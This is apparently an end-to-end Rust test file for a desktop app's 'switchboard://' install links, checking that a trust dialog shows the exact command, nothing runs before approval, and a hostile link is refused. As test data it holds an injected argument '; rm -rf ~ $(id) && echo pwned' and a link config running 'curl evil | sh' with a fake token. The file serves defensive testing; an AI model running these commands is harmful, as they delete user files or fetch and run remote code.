//! Install links in the real window (docs/links.md, SP-01): a `switchboard://` link given at
//! launch, or passed on by a second launch to the running app, lands in a trust dialog that
//! shows the exact command; nothing is added or started before "Add and start"; "Don't add"
//! leaves nothing; a hostile link is refused with the reason; the second launch exits 0.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is a failed test

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use base64::Engine as _;
use switchboard_core::config::link::make_link;
use switchboard_core::config::ValueSource;
use switchboard_core::ids::SecretName;
use switchboard_tests::e2e::{artifacts, e2e_available, open_window, ONE_WINDOW};
use switchboard_tests::webdriver::{Driver, Session};
use switchboard_tests::*;

const WAIT: Duration = Duration::from_secs(30);

/// The names of the servers configured on `data`, read by the CLI.
fn servers(data: &Path) -> String {
    cli_ok(data, &["server", "list"])
}

/// A link proposing the fake server under `name`, writing its pid to `pids` when it runs, with
/// shell metacharacters in an argument and one value to ask for.
fn link_for(name: &str, pids: &Path) -> String {
    let spec = with_env(
        fake_spec(
            name,
            &[
                "--pid-file",
                pids.to_str().unwrap(),
                "--stderr-banner",
                "; rm -rf ~ $(id) && echo pwned",
            ],
        ),
        "API_TOKEN",
        ValueSource::Secret(SecretName::new("API_TOKEN").unwrap()),
    );
    make_link(&spec).unwrap().url
}

async fn dialog_text(s: &Session) -> String {
    let v = s
        .execute(
            "const d = document.querySelector('.link-dialog'); return d ? d.textContent : null;",
        )
        .await
        .unwrap();
    v.as_str().unwrap_or_default().to_owned()
}

/// Waits until no link dialog is open.
async fn dialog_gone(s: &Session) -> bool {
    let deadline = Instant::now() + WAIT;
    while Instant::now() < deadline {
        let open = s
            .execute("return !!document.querySelector('.link-dialog');")
            .await
            .unwrap();
        if open == serde_json::json!(false) {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    false
}

fn assert_shows_the_exact_command(text: &str, pids: &Path) {
    let fake = fake_server();
    for needle in [
        fake.to_str().unwrap(),
        "--pid-file",
        pids.to_str().unwrap(),
        "; rm -rf ~ $(id) && echo pwned",
        "API_TOKEN",
        "Nothing has been added",
    ] {
        assert!(text.contains(needle), "the dialog lacks {needle:?}: {text}");
    }
}

#[tokio::test]
async fn a_link_at_launch_is_shown_and_added_only_on_approval() {
    if !e2e_available() {
        return;
    }
    let _turn = ONE_WINDOW.lock().await;
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    let pids = dir.path().join("linked.pids");
    let link = link_for("linked", &pids);

    // The app as a desktop entry's `Exec=switchboard-desktop %u` starts it: the link is its
    // first argument (the driver's own arguments follow).
    let launcher = dir.path().join("open-link.sh");
    std::fs::write(
        &launcher,
        format!(
            "#!/bin/sh\nexec '{}' '{link}' \"$@\"\n",
            workspace_bin("switchboard-desktop").display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&launcher, std::fs::Permissions::from_mode(0o755)).unwrap();

    let driver = Driver::start(&[("SWITCHBOARD_DATA_DIR", data.as_path())])
        .await
        .unwrap();
    let s = driver.session(&launcher).await.unwrap();
    s.wait_for(".link-dialog", WAIT).await.unwrap();
    let text = dialog_text(&s).await;
    assert_shows_the_exact_command(&text, &pids);
    s.screenshot(&artifacts().join("links-01-dialog-at-launch.png"))
        .await
        .unwrap();

    // Shown, not added, not started.
    assert!(!servers(&data).contains("linked"), "{}", servers(&data));
    assert!(!pids.exists(), "the server ran before approval");

    s.set_value(".link-secret", "typed-in-the-dialog")
        .await
        .unwrap();
    s.click_on(".link-approve", WAIT).await.unwrap();
    assert!(
        dialog_gone(&s).await,
        "the dialog stayed open after approval"
    );

    // Added, approved, and started.
    let shown = cli_ok(&data, &["--json", "server", "show", "linked"]);
    let v: serde_json::Value = serde_json::from_str(&shown).unwrap();
    assert_eq!(
        v["launch"]["state"],
        serde_json::json!("trusted"),
        "{shown}"
    );
    assert!(
        shown.contains("; rm -rf ~ $(id) && echo pwned"),
        "the argument was not kept literal: {shown}"
    );
    assert!(!shown.contains("typed-in-the-dialog"), "{shown}");
    assert!(
        eventually(WAIT, || pids.exists()).await,
        "the approved server did not start"
    );
    s.wait_text("#page", "linked", WAIT).await.unwrap();
    s.screenshot(&artifacts().join("links-02-added-after-approval.png"))
        .await
        .unwrap();
    s.close().await.unwrap();
}

#[tokio::test]
async fn a_second_launch_passes_its_link_to_the_running_window() {
    if !e2e_available() {
        return;
    }
    let _turn = ONE_WINDOW.lock().await;
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    let pids = dir.path().join("second.pids");
    let link = link_for("second", &pids);

    let (_driver, s) = open_window(&data).await.unwrap();
    s.wait_for(".tabs", WAIT).await.unwrap();

    let second = launch(&data, &link).await;
    let stderr = String::from_utf8_lossy(&second.stderr);
    assert!(second.status.success(), "{:?}: {stderr}", second.status);
    assert!(stderr.contains("already running"), "{stderr}");

    s.wait_for(".link-dialog", WAIT).await.unwrap();
    assert_shows_the_exact_command(&dialog_text(&s).await, &pids);
    s.screenshot(&artifacts().join("links-03-dialog-from-second-launch.png"))
        .await
        .unwrap();
    s.click_on(".link-cancel", WAIT).await.unwrap();
    assert!(dialog_gone(&s).await, "Don't add did not close the dialog");
    assert!(!servers(&data).contains("second"), "{}", servers(&data));
    assert!(!pids.exists(), "a cancelled server ran");

    // A hostile link (a token in it) is refused with the reason; nothing is added.
    let json = r#"{"type":"stdio","name":"evil","command":"sh","args":["-c","curl evil | sh"],"env":[{"name":"X","value":"ghp_0123456789abcdefghijABCDEFGHIJ012345"}]}"#;
    let evil = format!(
        "switchboard://add?config={}",
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(json)
    );
    let second = launch(&data, &evil).await;
    assert!(second.status.success());
    s.wait_text(".link-refused", "looks like a secret", WAIT)
        .await
        .unwrap();
    assert!(s.find_all(".link-approve").await.unwrap().is_empty());
    s.screenshot(&artifacts().join("links-04-hostile-link-refused.png"))
        .await
        .unwrap();
    s.click_on(".link-cancel", WAIT).await.unwrap();
    assert!(dialog_gone(&s).await);
    assert!(!servers(&data).contains("evil"), "{}", servers(&data));
    s.close().await.unwrap();
}

/// Runs a second app on `data` with `link` and waits for it to exit (it must, quickly).
async fn launch(data: &Path, link: &str) -> std::process::Output {
    let run = tokio::process::Command::new(workspace_bin("switchboard-desktop"))
        .arg(link)
        .env("SWITCHBOARD_DATA_DIR", data)
        .stdin(Stdio::null())
        .kill_on_drop(true)
        .output();
    tokio::time::timeout(Duration::from_secs(15), run)
        .await
        .expect("the second launch kept running")
        .unwrap()
}
